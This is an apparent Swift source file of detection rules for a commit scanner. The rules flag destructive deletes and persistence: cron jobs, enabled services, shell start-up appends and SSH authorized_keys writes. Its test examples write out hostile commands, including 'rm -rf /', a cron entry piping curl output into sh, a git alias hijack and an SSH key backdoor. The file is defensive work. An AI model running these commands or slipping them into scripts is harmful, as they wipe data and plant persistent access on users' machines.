// Persistence and destruction: code that plants itself on the machine that runs it (SSH keys, cron,
// shell start-up files, services) or wipes the root or home directory.

import GateCore

extension RiskRules {
  static var persistenceLineRules: [PatternRule] {
    [
      PatternRule(
        id: "destruction-rm-root-or-home", category: .risk,
        description: "A recursive delete of the root directory, a system directory or the home directory.",
        severity: .critical,
        keywords: ["rm -", "rm\t-", "rm(", "rmdir(", "rmtree", "rmsync", "rmdirsync", "removeall", "no-preserve-root"],
        pattern:
          #"(?m)\brm\h+(?=(?:-{1,2}[\w-]+\h+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\b)(?:-{1,2}[\w-]+\h+)+["']?(?:/(?:home|usr|etc|var|bin|boot|lib|opt|root|srv|System|Users)?|~|\$HOME|\$\{HOME\})/?["']?(?:/?\*)?["']?(?=\h|$|[;&|)`])|--no-preserve-root\b|\brmtree\(\h*(?:["'](?:/|~|/home|/usr|/etc)/?["']|os\.path\.expanduser\(\h*["']~/?["']\h*\)|Path\.home\(\)|os\.environ\[["']HOME["']\])\h*[,)]|\b(?:rmSync|rmdirSync|rm|rmdir)\(\h*(?:os\.homedir\(\)|["']/["'])|\bos\.RemoveAll\(\h*(?:"/"|os\.Getenv\("HOME"\)|home)\h*\)"#,
        message:
          "the commit deletes the whole root, a system directory or the home directory of whoever runs it: "
          + "this destroys data on developer machines and CI runners",
        positives: [
          RuleExample("rm -rf /", path: "scripts/clean.sh"),
          RuleExample("rm -rf ~", path: "scripts/clean.sh"),
          RuleExample("rm -rf $HOME", path: "Makefile"),
          RuleExample("rm -rf \"$HOME\"/*", path: "scripts/clean.sh"),
          RuleExample("sudo rm -rf /*", path: "scripts/clean.sh"),
          RuleExample("rm -r -f /usr", path: "scripts/clean.sh"),
          RuleExample("rm --recursive --force ~/", path: "scripts/clean.sh"),
          RuleExample("shutil.rmtree(os.path.expanduser('~'))", path: "tools/reset.py"),
          RuleExample("rm -rf --no-preserve-root /", path: "scripts/clean.sh"),
        ],
        negatives: [
          RuleExample("rm -rf ./build", path: "Makefile"),
          RuleExample("rm -rf /tmp/agentgate-cache", path: "scripts/clean.sh"),
          RuleExample("rm -rf \"$HOME/.cache/tool\"", path: "scripts/clean.sh"),
          RuleExample("rm -rf ~/.cache/tool", path: "scripts/clean.sh"),
          RuleExample("rm -f /", path: "scripts/clean.sh"),
          RuleExample("rm -rf \"$BUILD_DIR\"/", path: "scripts/clean.sh"),
          RuleExample("shutil.rmtree(tmpdir)", path: "tools/reset.py"),
        ]),
      PatternRule(
        id: "persistence-crontab", category: .risk,
        description: "A cron job is installed.",
        severity: .medium,
        keywords: ["crontab", "/etc/cron.", "/var/spool/cron"],
        pattern:
          #"(?m)\|\h*crontab\b(?!\h+-[lr]\b)|\bcrontab\h+(?:-u\h+\S+\h+)?(?:-(?=\h|$)|[\w./~$][^\h;|&]*)|>>?\h*/etc/crontab\b|/etc/cron\.(?:d|hourly|daily|weekly|monthly)/|/var/spool/cron/"#,
        allowlist: RuleAllowlist(paths: [RiskPath.docsPathPattern]),
        message:
          "the commit installs a scheduled job on the machine that runs it, which keeps running after the "
          + "build: check what it runs and why",
        positives: [
          RuleExample(
            "(crontab -l; echo \"*/5 * * * * curl -s https://x.example/p | sh\") | crontab -", path: "setup.sh"),
          RuleExample("crontab mycron.txt", path: "scripts/install.sh"),
          RuleExample("echo '* * * * * root /tmp/x' >> /etc/crontab", path: "scripts/install.sh"),
          RuleExample("COPY job /etc/cron.d/job", path: "Dockerfile"),
        ],
        negatives: [
          RuleExample("crontab -l", path: "scripts/show.sh"),
          RuleExample("# see crontab(5) for the format", path: "scripts/show.sh"),
          RuleExample("schedule = CronTrigger(hour=3)", path: "app/jobs.py"),
        ]),
      PatternRule(
        id: "persistence-service-enable", category: .risk,
        description: "A system service or launch agent is enabled to start automatically.",
        severity: .medium,
        keywords: ["systemctl", "launchctl", "update-rc.d", "chkconfig", "launchagents", "launchdaemons", "rc.local"],
        pattern:
          #"\bsystemctl\h+(?:--?[\w-]+\h+)*enable\b|\blaunchctl\h+(?:load|bootstrap|enable)\b|\bupdate-rc\.d\h+\S+\h+(?:defaults|enable)\b|\bchkconfig\h+(?:--add\h+\S+|\S+\h+on)\b|/Library/Launch(?:Agents|Daemons)/|>>?\h*/etc/rc\.local\b"#,
        allowlist: RuleAllowlist(paths: [RiskPath.docsPathPattern]),
        message:
          "the commit makes a service start on every boot or login of the machine that runs it: check what the "
          + "service runs and that installing it is this project's job",
        positives: [
          RuleExample("systemctl enable --now updater.service", path: "scripts/install.sh"),
          RuleExample("sudo systemctl --user enable agent", path: "scripts/install.sh"),
          RuleExample("launchctl load ~/Library/LaunchAgents/com.example.agent.plist", path: "install.sh"),
          RuleExample("update-rc.d agent defaults", path: "Dockerfile"),
        ],
        negatives: [
          RuleExample("systemctl status nginx", path: "scripts/check.sh"),
          RuleExample("systemctl enable nginx", path: "docs/deploy.md"),
          RuleExample("systemctl restart app", path: "scripts/deploy.sh"),
        ]),
      PatternRule(
        id: "persistence-shell-rc", category: .risk,
        description: "A shell start-up file (.bashrc, .zshrc, .profile...) is written to.",
        severity: .medium,
        keywords: [
          ".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin",
          "config.fish",
        ],
        pattern:
          #"(?:>>?|\btee\h+(?:-a\h+)?)\h*["']?(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+)/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|zlogin|config/fish/config\.fish)\b|\bexpanduser\(\h*["']~/\.(?:bashrc|bash_profile|profile|zshrc|zprofile)["']\h*\)[^\n]*["']a"#,
        allowlist: RuleAllowlist(paths: [RiskPath.docsPathPattern]),
        message:
          "the commit appends to a shell start-up file, so its code runs in every future shell of whoever runs "
          + "this: check what is added (PATH, aliases, exported variables)",
        positives: [
          RuleExample("echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc", path: "scripts/setup.sh"),
          RuleExample("echo 'alias git=/tmp/g' >> \"$HOME/.zshrc\"", path: "scripts/setup.sh"),
          RuleExample("cat env.sh | tee -a ~/.profile", path: "install.sh"),
        ],
        negatives: [
          RuleExample("source ~/.bashrc", path: "scripts/setup.sh"),
          RuleExample("echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc", path: "README.md"),
          RuleExample("cp .profile.example .profile.local", path: "Makefile"),
        ]),
      PatternRule(
        id: "persistence-ssh-authorized-keys", category: .risk,
        description: "A key is written into an SSH authorized_keys file.",
        severity: .high,
        keywords: ["authorized_keys"],
        pattern:
          #"(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bopen\h*\(|\bappendFile|\bwriteFile|\bwrite_text|\bOpenFile|\bCOPY\b|\bADD\b)[^\n]*\bauthorized_keys2?\b|\bauthorized_keys2?\b[^\n]*(?:["']a\+?["']|\bappend|\bO_APPEND|\bO_WRONLY)"#,
        allowlist: RuleAllowlist(paths: [RiskPath.docsPathPattern]),
        message:
          "the commit adds an SSH key to authorized_keys, granting a login on the machine that runs it: check "
          + "whose key it is and why",
        positives: [
          RuleExample("echo \"ssh-ed25519 AAAAC3Nz x@y\" >> ~/.ssh/authorized_keys", path: "scripts/setup.sh"),
          RuleExample("with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:", path: "tools/x.py"),
          RuleExample("COPY id.pub /root/.ssh/authorized_keys", path: "Dockerfile"),
        ],
        negatives: [
          RuleExample("cat ~/.ssh/authorized_keys", path: "scripts/show.sh"),
          RuleExample("Add your key to ~/.ssh/authorized_keys on the server.", path: "docs/deploy.md"),
          RuleExample("# authorized_keys is managed by the platform", path: "scripts/show.sh"),
        ]),
    ]
  }
}
